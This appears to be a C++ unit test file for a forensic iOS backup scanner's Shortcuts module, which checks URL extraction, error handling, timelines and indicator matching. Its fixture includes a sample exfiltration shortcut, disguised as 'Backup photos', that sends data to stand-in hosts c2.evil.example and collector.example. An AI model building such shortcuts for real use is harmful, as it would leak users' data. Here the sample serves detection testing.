#include "artifacts/ios/shortcuts/shortcuts.hpp"

#include <gtest/gtest.h>

#include "artifacts/ios/ios_test_support.hpp"
#include "formats/json/json_writer.hpp"
#include "formats/plist/writer.hpp"
#include "support/ios_backup_builder.hpp"
#include "support/ios_fixtures_fs_dump.hpp"
#include "support/ios_fixtures_module_run.hpp"
#include "support/ios_fixtures_shortcuts.hpp"
#include "support/ios_fixtures_sql.hpp"
#include "support/temp_dir.hpp"

namespace spyglass::artifacts::ios {
namespace {

namespace fs = std::filesystem;
namespace pl = formats::plist;
namespace st = spyglass::testing;
namespace its = spyglass::artifacts::ios::testing;
using matching::ObservableKind;
using st::CollectingSink;
using st::IosBackupBuilder;
using st::ShortcutAction;
using st::ShortcutRow;
using st::TempDir;

// 2021-03-01 12:00:00 UTC as Mac absolute time.
constexpr double kT0 = 1614600000.0 - 978307200.0;
constexpr const char* kDomain = "HomeDomain";
constexpr const char* kPath = "Library/Shortcuts/Shortcuts.sqlite";
constexpr const char* kFsPath = "private/var/mobile/Library/Shortcuts/Shortcuts.sqlite";

// An "open URL" whose URL is a text-token string with a variable in the middle, and a
// "Get contents of URL" POSTing to a URL nested two levels down.
std::string exfil_actions() {
  pl::Dict token;
  token.set("string", "https://c2.evil.example/up?d=\xEF\xBF\xBC");
  pl::Dict attachments;
  attachments.set("{29, 1}", pl::Dict());
  token.set("attachmentsByRange", std::move(attachments));
  pl::Dict url_value;
  url_value.set("Value", std::move(token));
  url_value.set("WFSerializationType", "WFTextTokenString");
  pl::Dict open;
  open.set("WFInput", std::move(url_value));
  pl::Dict post;
  post.set("WFURL", "http://collector.example/ingest");
  post.set("WFHTTPMethod", "POST");
  pl::Array headers;
  pl::Dict header;
  header.set("Key", "Referer");
  header.set("Value", "see https://c2.evil.example/up?d= too");  // duplicate: listed once
  headers.emplace_back(std::move(header));
  post.set("WFHTTPHeaders", std::move(headers));
  post.set("WFTimeout", 30);
  return st::shortcut_action_data({{"is.workflow.actions.gettext", {}},
                                   {"is.workflow.actions.openurl", std::move(open)},
                                   {"is.workflow.actions.downloadurl", std::move(post)}});
}

std::vector<ShortcutRow> sample_rows() {
  pl::Dict alarm;
  alarm.set("WFTime", "07:00");
  alarm.set("WFLabel", "wake up");
  return {
      {1, "Morning", kT0, kT0 + 60, "Set alarm",
       st::shortcut_action_data({{"is.workflow.actions.alarm.create", std::move(alarm)}})},
      {2, "Backup photos", kT0 + 3600, kT0 + 7200, "Open URL, Get contents of URL",
       exfil_actions()},
      {3, "Empty", kT0 + 10, std::nullopt, std::nullopt, std::nullopt},
      {4, "Broken", kT0 + 20, kT0 + 20, "?", std::string("bplist00\x01\x02", 10)},
  };
}

struct Parsed {
  Result<void> result;
  CollectingSink sink;
};

Parsed parse(const std::string& bytes) {
  TempDir scratch;
  Parsed out;
  auto db = formats::sqlite::Database::open_bytes(bytes, scratch.path());
  if (!db) {
    out.result = tl::unexpected(db.error());
    return out;
  }
  IosFile f;
  f.domain = kDomain;
  f.relative_path = kPath;
  f.file_id = "5b4d0b44b5990f62b9f4d34ad8dc382bf0b01094";
  f.evidence_path = "5b/" + f.file_id;
  out.result = read_shortcuts(*db, f, out.sink);
  return out;
}

TEST(ShortcutActions, UrlsAreFoundInNestedParametersAndCutAtVariables) {
  auto a = parse_shortcut_actions(exfil_actions());
  ASSERT_TRUE(a) << a.error().message;
  EXPECT_EQ(a->count, 3U);
  EXPECT_EQ(a->identifiers,
            (std::vector<std::string>{"is.workflow.actions.gettext", "is.workflow.actions.openurl",
                                      "is.workflow.actions.downloadurl"}));
  EXPECT_EQ(a->urls, (std::vector<std::string>{"https://c2.evil.example/up?d=",
                                               "http://collector.example/ingest"}));
  // The XML form and the .shortcut layout ({WFWorkflowActions: [...]}) read the same.
  pl::Dict params;
  params.set("WFURLActionURL", "https://a.example/x");
  auto xml = parse_shortcut_actions(
      st::shortcut_action_data({{"is.workflow.actions.url", params}}, /*xml=*/true));
  ASSERT_TRUE(xml) << xml.error().message;
  EXPECT_EQ(xml->urls, (std::vector<std::string>{"https://a.example/x"}));
  pl::Dict action;
  action.set("WFWorkflowActionIdentifier", "is.workflow.actions.url");
  action.set("WFWorkflowActionParameters", params);
  pl::Dict file;
  file.set("WFWorkflowActions", pl::Array{pl::Value(action)});
  auto wrapped = parse_shortcut_actions(*pl::write_binary(pl::Value(file)));
  ASSERT_TRUE(wrapped) << wrapped.error().message;
  EXPECT_EQ(wrapped->urls, xml->urls);
}

TEST(ShortcutActions, HostileBlobsAreErrorsNotCrashes) {
  EXPECT_FALSE(parse_shortcut_actions(""));
  EXPECT_FALSE(parse_shortcut_actions("bplist00"));
  EXPECT_FALSE(parse_shortcut_actions(*pl::write_binary(pl::Value("just a string"))));
  const std::string good = exfil_actions();
  for (std::size_t n = 0; n < good.size(); n += 7) {
    (void)parse_shortcut_actions(good.substr(0, n));  // must not crash (ASan)
  }
  // Deep nesting is bounded by the plist reader.
  pl::Value deep("https://deep.example/");
  for (int i = 0; i < 500; ++i) deep = pl::Value(pl::Array{std::move(deep)});
  pl::Dict p;
  p.set("X", std::move(deep));
  auto bytes = pl::write_binary(pl::Value(pl::Array{pl::Value([&] {
    pl::Dict a;
    a.set("WFWorkflowActionIdentifier", "x");
    a.set("WFWorkflowActionParameters", p);
    return a;
  }())}));
  ASSERT_TRUE(bytes);
  EXPECT_FALSE(parse_shortcut_actions(*bytes));
  // Non-dict actions and missing parameters are skipped.
  auto odd = parse_shortcut_actions(*pl::write_binary(pl::Value(pl::Array{1, "two", pl::Dict()})));
  ASSERT_TRUE(odd) << odd.error().message;
  EXPECT_EQ(odd->count, 3U);
  EXPECT_TRUE(odd->urls.empty());
}

TEST(Shortcuts, RecordsTimelineAndObservables) {
  auto p = parse(st::shortcuts_db(sample_rows()));
  ASSERT_TRUE(p.result) << p.result.error().message;
  ASSERT_EQ(p.sink.records.size(), 4U);
  EXPECT_EQ(json::to_json_line(p.sink.records[0].data),
            "{\"shortcut_id\": 1, \"shortcut_name\": \"Morning\", \"modified_date\": "
            "\"2021-03-01 12:01:00.000000\", \"description\": \"Set alarm\", \"parsed_actions\": "
            "1, \"action_urls\": [], \"isodate\": \"2021-03-01 12:00:00.000000\", "
            "\"action_identifiers\": [\"is.workflow.actions.alarm.create\"]}");
  EXPECT_TRUE(p.sink.records[0].observables.empty());

  const scan::Record& exfil = p.sink.records[1];
  EXPECT_EQ(st::observed(exfil, ObservableKind::kUrl),
            (std::vector<std::string>{"https://c2.evil.example/up?d=",
                                      "http://collector.example/ingest"}));
  ASSERT_EQ(exfil.timeline.size(), 2U);
  EXPECT_EQ(exfil.timeline[0].event, "shortcut_created");
  EXPECT_EQ(exfil.timeline[1].event, "shortcut_modified");
  EXPECT_EQ(format_mvt_time(exfil.timeline[1].time), "2021-03-01 14:00:00.000000");
  EXPECT_EQ(exfil.timeline[0].description,
            "iOS Shortcut 'Backup photos': Open URL, Get contents of URL - URLs in actions: "
            "https://c2.evil.example/up?d=, http://collector.example/ingest");

  const scan::Record& empty = p.sink.records[2];  // no ZSHORTCUTACTIONS row
  EXPECT_TRUE(empty.data.find("action_urls")->is_null());
  EXPECT_EQ(empty.timeline.size(), 1U);  // no modification date
  const scan::Record& broken = p.sink.records[3];
  EXPECT_TRUE(broken.data.find("action_urls")->is_null());
  EXPECT_NE(broken.data.find("action_data_error"), nullptr);
  EXPECT_TRUE(st::findings(p.sink).empty());
}

TEST(Shortcuts, ScanAlertsCriticalOnPlantedDomainOnly) {
  TempDir tmp;
  IosBackupBuilder b;
  b.add_file(kDomain, kPath, st::shortcuts_db(sample_rows()));
  const fs::path stix = its::write_stix(tmp / "i.stix2", {{"domain-name:value", "c2.evil.example"},
                                                          {"domain-name:value", "b.example"}});
  std::vector<std::unique_ptr<scan::Module>> modules;
  modules.push_back(make_shortcuts_module());
  auto run = its::run_ios_scan(std::move(modules), b.write(tmp / "backup"), tmp / "out", stix);
  ASSERT_TRUE(run.summary) << run.summary.error().message;
  const auto& s = *run.summary;
  EXPECT_EQ(s.modules[0].status, scan::ModuleStatus::kOk) << s.modules[0].error;
  EXPECT_EQ(s.modules[0].records, 4U);
  EXPECT_EQ(s.alerts_critical, 1U);
  EXPECT_EQ(s.alerts_high + s.alerts_medium + s.alerts_low, 0U);
  const std::string detected = st::read_file(tmp / "out" / "shortcuts_detected.json");
  EXPECT_NE(detected.find("Backup photos"), std::string::npos) << detected;
  const std::string timeline = st::read_file(tmp / "out" / "timeline.csv");
  EXPECT_NE(timeline.find("\"Shortcuts\",\"shortcut_modified\",\"iOS Shortcut 'Morning': Set "
                          "alarm\""),
            std::string::npos)
      << timeline;
}

TEST(Shortcuts, BackupAndFilesystemDumpGiveTheSameRecords) {
  TempDir tmp;
  const std::string db = st::shortcuts_db(sample_rows());
  IosBackupBuilder b;
  b.add_file(kDomain, kPath, db);
  auto module = make_shortcuts_module();
  auto backup = st::run_module_on(*module, b.write(tmp / "backup"));
  ASSERT_EQ(backup.status.code, scan::ModuleStatus::kOk) << backup.status.message;
  st::put_file(tmp / "dump", kFsPath, db);
  auto dump = st::run_module_on_dump(*module, tmp / "dump");
  ASSERT_EQ(dump.status.code, scan::ModuleStatus::kOk) << dump.status.message;
  ASSERT_EQ(backup.sink.records.size(), dump.sink.records.size());
  for (std::size_t i = 0; i < dump.sink.records.size(); ++i) {
    EXPECT_EQ(json::to_json_line(backup.sink.records[i].data),
              json::to_json_line(dump.sink.records[i].data));
  }
}

TEST(Shortcuts, AbsentTruncatedAndUnknownSchema) {
  TempDir tmp;
  auto module = make_shortcuts_module();
  EXPECT_EQ(IosBackupBuilder::file_id(kDomain, kPath), "5b4d0b44b5990f62b9f4d34ad8dc382bf0b01094");
  IosBackupBuilder empty;
  empty.add_file("HomeDomain", "Library/SMS/sms.db", "x");
  auto absent = st::run_module_on(*module, empty.write(tmp / "none"));
  EXPECT_EQ(absent.status.code, scan::ModuleStatus::kNotPresent) << absent.status.message;

  const std::string db = st::shortcuts_db(sample_rows());
  IosBackupBuilder truncated;
  truncated.add_file(kDomain, kPath, db.substr(0, db.size() / 2));
  auto failed = st::run_module_on(*module, truncated.write(tmp / "truncated"));
  EXPECT_EQ(failed.status.code, scan::ModuleStatus::kFailed);
  EXPECT_NE(failed.status.message.find("Shortcuts.sqlite"), std::string::npos)
      << failed.status.message;

  st::SqlFixture old;
  old.exec("CREATE TABLE ZSHORTCUT (Z_PK INTEGER PRIMARY KEY, ZNAME VARCHAR);");
  IosBackupBuilder foreign;
  foreign.add_file(kDomain, kPath, old.bytes());
  auto unknown = st::run_module_on(*module, foreign.write(tmp / "foreign"));
  EXPECT_EQ(unknown.status.code, scan::ModuleStatus::kFailed);
  EXPECT_NE(unknown.status.message.find("ZSHORTCUT(Z_PK, ZNAME) lacks column(s) ZCREATIONDATE"),
            std::string::npos)
      << unknown.status.message;
}

}  // namespace
}  // namespace spyglass::artifacts::ios
